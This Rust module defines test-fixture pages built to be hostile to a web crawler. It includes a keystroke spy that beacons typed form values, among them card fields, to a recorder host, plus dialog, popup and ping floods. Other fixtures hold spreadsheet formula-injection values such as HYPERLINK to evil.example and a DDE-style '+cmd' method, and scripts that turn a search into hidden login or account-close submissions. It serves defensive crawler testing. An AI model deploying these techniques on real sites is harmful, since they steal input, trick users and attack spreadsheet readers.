//! Pages written to be hostile to a crawler (the sites themselves are listed in
//! [`super::sites::SITES`] at rank 0, with the outcome a crawl must record): forms that must not
//! be submitted, downloads, loops of dialogs, refreshes, redirects and history moves, popups,
//! a refused beacon, floods of `document.write`, cookies and pings, focus stealing, a page that
//! hangs on the first key typed, WebRTC, and values a spreadsheet would run as formulas. `tests/e2e/hostile.rs` crawls them all.

/// Paths a crawl must never cause: a submission of a form other than search.
pub const NEVER_SUBMIT: &str = "/never-submit";

/// The hostile sites, for a test's list (each is in `SITES` with its expected outcome).
pub const HOSTS: &[&str] = &[
    "forms-trap.test",
    "self-submit.test",
    "hog.test",
    "dialog-loop.test",
    "refresh-loop.test",
    "redirect-loop.test",
    "download.test",
    "download-after.test",
    "popups.test",
    "big-beacon.test",
    "history-loop.test",
    "focus-steal.test",
    "key-hog.test",
    "docwrite-flood.test",
    "giant-cookies.test",
    "webrtc.test",
    "ping-flood.test",
    "socket-flood.test",
    "formula.test",
    "iframe-trap.test",
    "morph-search.test",
    "moved-box.test",
    "custom-pass.test",
    "focus-flip.test",
    "formaction.test",
    "enter-hijack.test",
    "mangled-text.test",
    "huge-urls.test",
];

/// The sites whose pages try to turn the visitor's search into another submission: every
/// such submission would go to a path ending `-submitted`, which no visit may ever load.
pub const ENTER_TRAPS: &[&str] = &[
    "morph-search.test",
    "moved-box.test",
    "custom-pass.test",
    "focus-flip.test",
    "formaction.test",
    "enter-hijack.test",
];

/// Forms that look searchable by a field's name but are not search forms, a checkout form,
/// and one real search form (which the visitor must still use). A spy sends what the visitor
/// types (form, field, value) to a recorder, as session recorders do, so the test can read
/// which value reached which field.
pub const FORMS_TRAP: &str = r#"
<form id="newsletter" action="/never-submit?form=newsletter" method="post">
  <label>Email <input type="email" name="email"></label>
  <label>Topic <input type="text" name="q" placeholder="Topics you like"></label>
  <button type="submit">Subscribe</button>
</form>
<form id="login" action="/never-submit?form=login" method="post">
  <label>User <input type="text" name="s" autocomplete="username"></label>
  <label>Password <input type="password" name="pw"></label>
  <button type="submit">Sign in</button>
</form>
<form id="checkout" action="/never-submit?form=checkout" method="post">
  <label>Card holder <input type="text" name="cardholder" autocomplete="cc-name"></label>
  <label>Card number <input type="text" name="cardnumber" autocomplete="cc-number" inputmode="numeric"></label>
  <label>Expiry <input type="text" name="exp" autocomplete="cc-exp"></label>
  <label>CVC <input type="text" name="cvc" autocomplete="cc-csc"></label>
  <label>Coupon <input type="text" name="q"></label>
  <button type="submit">Pay</button>
</form>
<form id="site-search" role="search" action="/search" method="get">
  <input type="search" name="q" aria-label="Search this site"><button type="submit">Search</button>
</form>
<script>
// Any submission at all is logged by the server; a submit event is also reported.
document.addEventListener('submit', function (e) {
  navigator.sendBeacon('https://collect.recorder-demo.test/v1/submit-event', e.target.id);
}, true);
</script>
<script>
document.addEventListener('input', function (e) {
  var t = e.target; if (!t || !('value' in t)) return;
  clearTimeout(t.__spy); t.__spy = setTimeout(function () {
    navigator.sendBeacon('https://collect.recorder-demo.test/v1/typed', JSON.stringify({form: t.form ? t.form.id : '', field: t.name || t.id, value: t.value}));
  }, 50);
}, true);
</script>
"#;

/// A form whose own script submits it when a field changes: the page's doing, recorded as
/// such, never the visitor's.
pub const SELF_SUBMIT: &str = r#"
<form id="autosave" action="/self-submit" method="post">
  <label>Email <input type="email" name="email" onchange="this.form.submit()"></label>
</form>
"#;

/// An alert, confirm and prompt every 10 ms from load on.
pub const DIALOG_LOOP: &str = r#"<script>
setInterval(function () { alert('Hello'); confirm('Stay?'); prompt('Your name?'); }, 10);
</script>"#;

/// A page that refreshes itself at once, forever.
pub const REFRESH_LOOP: &str = r#"<meta http-equiv="refresh" content="0">"#;

/// After load, the page sends the browser to a 50 MB attachment.
pub const DOWNLOAD_AFTER: &str = r#"<script>
window.addEventListener('load', function () { setTimeout(function () { location.href = '/attachment.bin'; }, 200); });
</script>"#;

/// Fifty popups at load (the popup blocker's job) and one more on any click (a click is a
/// user gesture, so that one opens). Each popup sends a beacon every 200 ms for as long as it
/// lives.
pub const POPUPS: &str = r#"<script>
window.addEventListener('load', function () { for (var i = 0; i < 50; i++) window.open('/popup?n=' + i, '_blank'); });
document.addEventListener('click', function () { window.open('/popup?n=clicked', '_blank'); }, true);
</script>"#;

/// The page a popup shows.
pub const POPUP_PAGE: &str = r#"<!doctype html><html><head><title>Popup</title></head><body><p>Popup</p><script>
setInterval(function () { navigator.sendBeacon('/popup-beacon?at=' + Date.now(), 'alive'); }, 200);
</script></body></html>"#;

/// A 10 MB beacon, which Chromium refuses (over the keep-alive quota), and a small one it sends.
pub const BIG_BEACON: &str = r#"<script>
window.addEventListener('load', function () {
  var ok = navigator.sendBeacon('https://collect.recorder-demo.test/v1/big-beacon', 'x'.repeat(10 * 1024 * 1024));
  navigator.sendBeacon('https://collect.recorder-demo.test/v1/small-beacon?big_sent=' + ok, 'small');
});
</script>"#;

/// `history.back()` and `pushState` in a tight loop.
pub const HISTORY_LOOP: &str = r#"<script>
var n = 0;
// One pushed entry at a time, popped at once; never back past the page's own first entry
// (whose state is null): the loop is hostile to the visitor, not a way of leaving the site
// for the blank page before its tags run (which made the test flaky).
setInterval(function () { if (history.state) return; history.pushState({n: ++n}, '', '#s' + n); history.back(); }, 5);
window.addEventListener('popstate', function () { if (history.state) history.back(); });
</script>"#;

/// Takes the focus back to a decoy field every 5 ms.
pub const FOCUS_STEAL: &str = r#"
<form id="contact" action="/never-submit?form=contact" method="post">
<label>Email <input type="email" name="email"></label> <label>Decoy <input type="text" id="decoy" name="decoy"></label>
</form>
<script>setInterval(function () { var d = document.getElementById('decoy'); if (d) d.focus(); }, 5);</script>
"#;

/// A field whose page hangs its main thread on the first key typed into it: the keys never
/// land, the visit is cut off from outside and what the page sent is kept.
pub const KEY_HOG: &str = r#"
<form id="contact" action="/never-submit?form=contact" method="post">
<label>Email <input type="email" name="email"></label>
</form>
<script>document.addEventListener('keydown', function () { for (;;) {} }, true);</script>
"#;

/// After load, rewrites the document with 100 KB of text every millisecond for 3 s.
pub const DOCWRITE_FLOOD: &str = r#"<script>
window.addEventListener('load', function () {
  var chunk = '<p>' + 'flood '.repeat(20000) + '</p>', end = Date.now() + 3000;
  var t = setInterval(function () { if (Date.now() > end) { clearInterval(t); return; } document.write(chunk); }, 1);
});
</script>"#;

/// 180 cookies of 4 KB each (Chromium's per-domain limits), set by script.
pub const GIANT_COOKIES: &str = r#"<script>
var v = 'c'.repeat(3990);
for (var i = 0; i < 180; i++) document.cookie = 'big' + i + '=' + v + '; path=/; max-age=3600';
new Image().src = '/after-cookies.gif';
</script>"#;

/// A WebRTC peer connection gathering candidates through a STUN server.
pub const WEBRTC: &str = r#"<script>
try {
  var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:stun.webrtc.test:3478'}]});
  pc.createDataChannel('x');
  pc.onicecandidate = function (e) { if (e.candidate) navigator.sendBeacon('https://collect.recorder-demo.test/v1/ice', e.candidate.candidate); };
  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
} catch (e) {}
</script>"#;

/// 300 links with `ping`, each clicked by the page's script (same-page fragments).
pub const PING_FLOOD: &str = r#"<div id="pings"></div><script>
window.addEventListener('load', function () {
  var box = document.getElementById('pings');
  for (var i = 0; i < 300; i++) {
    var a = document.createElement('a'); a.href = '#p' + i; a.ping = 'https://collect.recorder-demo.test/v1/ping?i=' + i; a.textContent = '.';
    box.appendChild(a); a.click();
  }
});
</script>"#;

/// A WebSocket that sends 12,000 messages as soon as it opens: more than a visit keeps.
pub const SOCKET_FLOOD: &str = r#"<script>
var ws = new WebSocket('wss://collect.recorder-demo.test/v1/ws?flood=1');
ws.onopen = function () { for (var i = 0; i < 12000; i++) { ws.send('m' + i); } };
</script>"#;

/// Values a spreadsheet would run as formulas, from every place a page controls: host names
/// of third parties (which become tracker and company names), a request method, cookie names
/// and values, the title and the URL.
pub const FORMULA: &str = r#"<script>
document.title = '=HYPERLINK("http://evil.example","title")';
document.cookie = '@SUM(1+1)=-2+3; path=/';
new Image().src = 'https://=1+1.evil/p.gif?id=%3DCMD';
new Image().src = 'https://+cmd.evil/p.gif?e=@SUM(1)';
fetch('https://-2+3.evil/collect', {method: "+cmd|'calc'!A0", mode: 'cors'}).catch(function () {});
history.replaceState(null, '', '/=1+2');
</script>"#;

/// How deep [`IFRAME_TRAP`]'s same-origin frames nest.
pub const NEST_DEPTH: u32 = 500;

/// A page that, once loaded, grows a chain of [`NEST_DEPTH`] same-origin iframes, each the
/// next one's parent and each holding up its own unload for two seconds: leaving it takes the
/// browser longer than any leave may; its GA4 hit at load must be kept all the same.
pub const IFRAME_TRAP: &str = r#"<div id="nest"></div><script>
addEventListener('load', function () { document.getElementById('nest').innerHTML = '<iframe src="/nest?d=1" title="nested" width="300" height="40"></iframe>'; });
</script>"#;

/// The frame at depth `d` of [`IFRAME_TRAP`]'s chain.
pub fn nest_page(d: u32) -> String {
    let inner = if d < NEST_DEPTH {
        format!(
            r#"<iframe src="/nest?d={}" title="nested" width="300" height="40"></iframe>"#,
            d + 1
        )
    } else {
        String::new()
    };
    format!(
        "<!doctype html><html><head><title>Frame {d}</title></head><body>{inner}<script>addEventListener('unload', function () {{ var t = Date.now(); while (Date.now() - t < 2000) {{}} }});</script></body></html>"
    )
}

/// A search form that turns into a sign-in form while the visitor types into it: a PIN field
/// appears and the form now posts to the account.
pub const MORPH_SEARCH: &str = r#"<form id="find" action="/search" method="get" role="search">
<input type="search" name="q" aria-label="Search the shop">
</form><script>
document.querySelector('#find input').addEventListener('input', function (e) {
  var f = e.target.form;
  if (e.target.value.length < 4 || f.querySelector('[name=pin]')) return;
  var pin = document.createElement('input'); pin.type = 'password'; pin.name = 'pin'; pin.value = '2468';
  pin.style.cssText = 'position:absolute;left:-999px';
  f.appendChild(pin); f.method = 'post'; f.action = '/account-pin-submitted';
});
</script>"#;

/// The search box is taken out of its form and put into a sign-in form (with a password),
/// then given the focus again, while the visitor types.
pub const MOVED_BOX: &str = r#"<form id="lookup" action="/search" method="get"><label>Search <input id="sq" name="q"></label></form>
<form id="member" action="/member-login-submitted" method="post"><input type="password" name="secret" value="opensesame" style="opacity:0;width:1px"></form>
<script>
document.getElementById('sq').addEventListener('keyup', function (e) {
  var box = e.target, member = document.getElementById('member');
  if (box.form === member || box.value.length < 3) return;
  member.insertBefore(box, member.firstChild); box.focus();
});
</script>"#;

/// A sign-in form whose user field is named like a query and whose password is a custom
/// element taking part in the form (ElementInternals): to a look at its inputs it is a
/// search form with one box.
pub const CUSTOM_PASS: &str = r#"<form id="portal" action="/portal-login-submitted" method="post">
<input name="q" placeholder="Member number"> <pin-pad name="code"></pin-pad>
</form><script>
customElements.define('pin-pad', class extends HTMLElement {
  static formAssociated = true;
  constructor() { super(); this.internals = this.attachInternals(); }
  connectedCallback() { this.textContent = '****'; this.internals.setFormValue('9731'); }
});
</script>"#;

/// Once the search box is typed into, the focus flips between it and a sign-in field every
/// 2 ms; and whatever has it when Enter goes down, the page hands it to the sign-in field.
pub const FOCUS_FLIP: &str = r#"<form id="s" action="/search" method="get"><input type="search" name="q" id="box" placeholder="Search"></form>
<form id="signin" action="/signin-submitted" method="post"><input name="login" id="login" aria-label="Login"><input type="password" name="pw" value="x" style="opacity:0;width:1px"><button>Sign in</button></form>
<script>
var box = document.getElementById('box'), login = document.getElementById('login'), flip = null;
box.addEventListener('input', function () {
  if (flip) return;
  var n = 0;
  flip = setInterval(function () { (n++ % 2 ? box : login).focus(); }, 2);
});
document.addEventListener('keydown', function (e) { if (e.key === 'Enter') login.focus(); }, true);
</script>"#;

/// A search form whose default button sends it elsewhere, by POST: closing the account.
pub const FORMACTION: &str = r#"<form id="site-search" action="/search" method="get">
<input type="search" name="q" placeholder="Search">
<button formaction="/account/close-submitted" formmethod="post">Search</button>
</form>"#;

/// The page answers the visitor's Enter in the search box with submissions of its own: a
/// hidden sign-in form's `requestSubmit()` (fires a submit event) and another form's
/// `submit()` (fires none).
pub const ENTER_HIJACK: &str = r#"<form id="search" action="/search" method="get"><input type="search" name="q" placeholder="Search"></form>
<form id="login" action="/hijack-login-submitted" method="post" style="display:none"><input name="user" value="visitor"><input type="password" name="pw" value="hunter2"></form>
<form id="newsletter" action="/hijack-newsletter-submitted" method="post" style="display:none"><input name="list" value="all"></form>
<script>
document.querySelector('#search input').addEventListener('keydown', function (e) {
  if (e.key !== 'Enter') return;
  document.getElementById('login').requestSubmit();
  document.getElementById('newsletter').submit();
});
</script>"#;
/// Text a page controls, broken the ways JavaScript's UTF-16 strings allow and UTF-8 does
/// not: lone halves of surrogate pairs and NUL characters in the title, in the texts of the
/// menu's links (the internal pages a visitor reaches), in a field's id and name, in a
/// cookie and in Web Storage keys and values. None of it may cost the page its facts, its
/// links or its internal pages.
pub const MANGLED_TEXT: &str = r#"<nav id="menu"><a href="/recipes/soup">Soup</a></nav>
<form id="contact" action="/never-submit?form=contact" method="post"><label>Email <input type="email" name="email"></label></form>
<script>
(function () {
  var hi = String.fromCharCode(0xD83D), lo = String.fromCharCode(0xDE00), nul = String.fromCharCode(0);
  document.title = 'Menu ' + hi + ' of the day' + nul + ' ' + lo + lo;
  var menu = document.getElementById('menu');
  menu.firstChild.textContent = 'Soup ' + lo + ' of ' + nul;
  [['/recipes/bread', 'Br' + nul + 'ead ' + hi], ['/recipes/cake', hi + hi + 'Cake' + nul]].forEach(function (l) {
    var a = document.createElement('a'); a.href = l[0]; a.textContent = l[1]; menu.appendChild(a);
  });
  var f = document.querySelector('input[name=email]'); f.id = 'mail' + hi; f.name = 'email' + nul + lo;
  document.cookie = 'pc' + hi + 'id=v' + lo + nul + 'x; path=/';
  try { localStorage.setItem('pref' + lo, 'dark' + nul + hi); sessionStorage.setItem('tab' + nul, hi + 'v'); } catch (e) {}
})();
</script>"#;

/// The internal pages of [`MANGLED_TEXT`]'s site, whose titles are broken too.
pub const MANGLED_INTERNAL: &str = r#"<script>
document.title = 'Recipe ' + String.fromCharCode(0xDBFF) + String.fromCharCode(0) + ' card';
</script>"#;

/// Megabytes where a crawler expects a line: the page's own URL made 1.8 MB long, a pixel
/// and a link whose URLs are 1.9 MB, a 200 KB request header, and a response header of
/// 200 KB (the server's answer to `/echo-header.gif`). Each page request then names the
/// megabyte document it came from.
pub const HUGE_URLS: &str = r#"<nav><a href="/about/team">Team</a> <a id="long" href="/about/x">Long</a></nav>
<script>
(function () {
  var mb = function (c, kb) { return new Array(kb * 1024 + 1).join(c); };
  document.getElementById('long').href = '/about/long?k=' + mb('k', 1900);
  history.replaceState(null, '', '/?state=' + mb('s', 1800));
  new Image().src = '/pixel.gif?blob=' + mb('p', 1900);
  new Image().src = '/echo-header.gif';
  fetch('/api/collect', {method: 'POST', headers: {'X-Note': mb('h', 200)}, body: 'n=1'}).catch(function () {});
})();
</script>"#;

/// The size of the response header `/echo-header.gif` answers with on [`HUGE_URLS`]'s site.
pub const HUGE_RESPONSE_HEADER: usize = 200 * 1024;
